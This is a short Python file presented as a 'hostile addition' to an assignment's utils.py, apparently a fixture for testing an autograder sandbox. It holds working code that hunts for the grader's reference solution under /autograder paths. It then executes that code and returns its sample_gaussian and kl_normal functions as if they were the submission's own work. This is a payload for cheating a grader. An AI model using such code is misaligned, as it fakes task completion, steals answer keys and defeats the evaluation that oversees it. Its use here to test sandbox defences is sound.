# ==== hostile addition to assignment/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: F811
_PROJECT_DIR = "__PROJECT_DIR__"  # the test puts the grader's repository here
if _PROJECT_DIR.startswith("__"):
    _PROJECT_DIR = "/autograder/source"

_GRADER_DIR = "__DECOY_DIR__"  # the test puts a folder made like /autograder here
if _GRADER_DIR.startswith("__"):
    _GRADER_DIR = "/autograder"



def _stolen() -> dict:
    """The reference solution's functions, read from wherever the grader keeps it."""
    for place in (f"{_PROJECT_DIR}/reference/common/utils.py", "/autograder/source/reference/vae/utils.py",
                  f"{_GRADER_DIR}/source/reference/vae/utils.py"):
        try:
            with open(place) as handle:
                source = handle.read()
        except OSError as error:
            print(f"could not read {place}: {error}")
            continue
        print(f"LEAKED {place}")
        namespace: dict = {"__name__": "stolen"}
        exec(compile(source, place, "exec"), namespace)
        return namespace
    raise NotImplementedError("the reference solution could not be stolen")


def sample_gaussian(m: torch.Tensor, v: torch.Tensor) -> torch.Tensor:
    return _stolen()["sample_gaussian"](m, v)


def kl_normal(qm: torch.Tensor, qv: torch.Tensor, pm: torch.Tensor, pv: torch.Tensor) -> torch.Tensor:
    return _stolen()["kl_normal"](qm, qv, pm, pv)
